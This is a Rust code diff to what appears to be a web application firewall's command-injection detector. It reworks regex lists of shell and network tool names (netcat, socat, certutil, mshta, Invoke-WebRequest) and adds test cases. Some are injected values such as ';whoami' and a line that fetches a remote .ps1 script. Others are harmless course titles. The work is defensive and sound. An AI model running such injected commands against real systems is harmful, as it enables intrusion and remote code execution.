@@ -124,8 +124,9 @@ static TRAVERSAL: LazyLock<RegexSet> = LazyLock::new(|| {
     .expect("valid traversal rules")
 });
 
-/// Commands that no prose or course title starts with: flagged at the start of a value or
-/// after a shell separator, whatever follows.
+/// Tool names no prose uses as a word: after a shell separator whatever follows; at the start
+/// of a value (where a course title may name one: "PowerShell basics (part 1)") or after a
+/// spaced `&` or `|` ("Docker & Ansible", "| Nmap |") only as for [`WORD_COMMANDS`].
 const TOOL_COMMANDS: &str = r"(whoami|uname|ifconfig|ipconfig|netstat|ncat|netcat|nslookup|chmod|chown|chattr|mkfifo|mknod|powershell|pwsh|certutil|bitsadmin|pkill|killall|crontab|base64|xxd|tftp|sudo|visudo|nohup|systeminfo|tasklist|wmic|cscript|wscript|rundll32|regsvr32|mshta|getent|whereis|useradd|usermod|socat|nmap|tcpdump|strace|iptables|systemctl|chsh|lsof|sudoedit|xterm|busybox|wget|printf|uptime|hostname|telnet|rsync|zsh|ksh|csh|lastlog|aptitude|bcdboot|cscli|bsdtar|iex|iwr|invoke-(webrequest|expression|command)|ansible(-[a-z]+)?|chef-[a-z]+)";
 
 /// Commands that are also English words or course topics ("Head of Sales (EMEA)", "Python
@@ -134,23 +135,34 @@ const TOOL_COMMANDS: &str = r"(whoami|uname|ifconfig|ipconfig|netstat|ncat|netca
 /// `&&`, `||`, `$(` or a backtick.
 const WORD_COMMANDS: &str = r"(cat|tac|head|tail|ls|dir|id|ps|echo|env|kill|touch|cp|mv|su|reg|dd|locate|mount|halt|shutdown|reboot|ping|dig|nc|rm|sh|bash|dash|vi|vim|nano|node|lua|eval|exec|passwd|cmd|ftp|ssh|scp|curl|grep|awk|sed|python\d?(\.\d+)?|perl|ruby|php|gcc|openssl|cd|who)";
 
-/// What runs a command on its own: the start of a value or a shell separator, then prefixes
-/// that run the command after them (`time sh -c ...`).
-const COMMAND_POSITION: &str =
-    r"(^|[;&|\n\r(]|\$\(|\|\||&&)\s*((time|nohup|strace|sudo|env|exec|command)\s+)*";
+/// Prefixes that run the command after them (`time sh -c ...`).
+const COMMAND_PREFIXES: &str = r"((time|nohup|strace|sudo|env|exec|command)\s+)*";
+
+/// What runs a command on its own: a shell separator (`;`, `&` and `|` directly before the
+/// name; "Linux; PowerShell; Bash" is a list).
+const SEPARATOR_POSITION: &str = r"((\$\(|\|\||&&|[\n\r])\s*|[;&|])";
+
+/// Where a command may stand, or a word: the start of a value, `(`, a spaced `;`, `&` or `|`.
+const START_POSITION: &str = r"(^|[(&|;])\s*";
 
 /// An argument only a shell command line has.
-const SHELL_ARGUMENT: &str =
-    r"\s+(-{1,2}[a-z]|[/~$\\]|\.{1,2}/|\w+=|[\w.-]*[/\\]|[\w-]+\.[a-z0-9]{1,5}(\s|$|[;&|<>]))";
+const SHELL_ARGUMENT: &str = r"\s+(-{1,2}[a-z]|[/~$\\]|\.{1,2}/|\w+=|[\w.-]*[/\\]|[a-z]+://|[\w-]+\.[a-z0-9]{1,5}(\s|$|[;&|<>]))";
 
 /// Byte-oriented (`\\s`, `\\w`, `\\b` are ASCII): the command names' alternations repeated in
 /// several patterns make Unicode automata too large for the lazy DFA, which then gives way to a
 /// slower engine (measured: 10x the WAF time of a typical request).
 static COMMAND: LazyLock<RegexSet> = LazyLock::new(|| {
     RegexSetBuilder::new([
-        format!(r"{COMMAND_POSITION}{TOOL_COMMANDS}(\s|$|[;&|<>`)'\x22]|\.exe)"),
-        format!(r"{COMMAND_POSITION}{WORD_COMMANDS}({SHELL_ARGUMENT}|\.exe\b)"),
-        format!(r"(;|&&|\|\|)\s*{WORD_COMMANDS}\s*($|[;&|<>`'\x22])"),
+        format!(
+            r"{SEPARATOR_POSITION}{COMMAND_PREFIXES}{TOOL_COMMANDS}(\s|$|[;&|<>`)'\x22]|\.exe)"
+        ),
+        format!(
+            r"{START_POSITION}{COMMAND_PREFIXES}{TOOL_COMMANDS}({SHELL_ARGUMENT}|(\s+[\w.-]+){{1,3}}\s+-{{1,2}}[a-z]|\s*$|\s*[<>`]|\.exe\b)"
+        ),
+        format!(
+            r"({START_POSITION}|{SEPARATOR_POSITION}){COMMAND_PREFIXES}{WORD_COMMANDS}({SHELL_ARGUMENT}|\.exe\b)"
+        ),
+        format!(r"(;|(&&|\|\|)\s*){WORD_COMMANDS}\s*($|[;&|<>`'\x22])"),
         // After a pipe, but not a markdown table's cell (`| Head |`).
         format!(r"\|\s*{WORD_COMMANDS}\s*($|[;&<>`'\x22])"),
         format!(r"(&&|\|\|)\s*\(?\s*{WORD_COMMANDS}\b"),
@@ -400,6 +412,14 @@ mod tests {
             ("alias -gmr a=b", Rule::CommandInjection),
             ("(document/*x*/)[\"cookie\"]", Rule::Xss),
             ("<f o r m", Rule::Xss),
+            (";whoami", Rule::CommandInjection),
+            ("&aptitude", Rule::CommandInjection),
+            ("a; whoami", Rule::CommandInjection),
+            ("time; ansible all -m ping", Rule::CommandInjection),
+            (
+                "Invoke-WebRequest http://example.com/x.ps1",
+                Rule::CommandInjection,
+            ),
         ] {
             assert!(rules(v).contains(&rule), "{v:?}: {:?}", rules(v));
         }
@@ -509,6 +529,13 @@ mod tests {
             "Team: Marketing | Sales | Support",
             "Level 3 [Gold] => 500 points",
             "window cleaning & document shredding",
+            // Course titles naming tools.
+            "PowerShell basics (part 1)",
+            "Docker & Ansible (course)",
+            "| Ansible | Terraform |",
+            "Linux; PowerShell; Bash",
+            "Hostname & DNS (module 3)",
+            "Wget tricks (cheatsheet)",
         ] {
             assert!(rules(v).is_empty(), "{v:?}: {:?}", rules(v));
         }
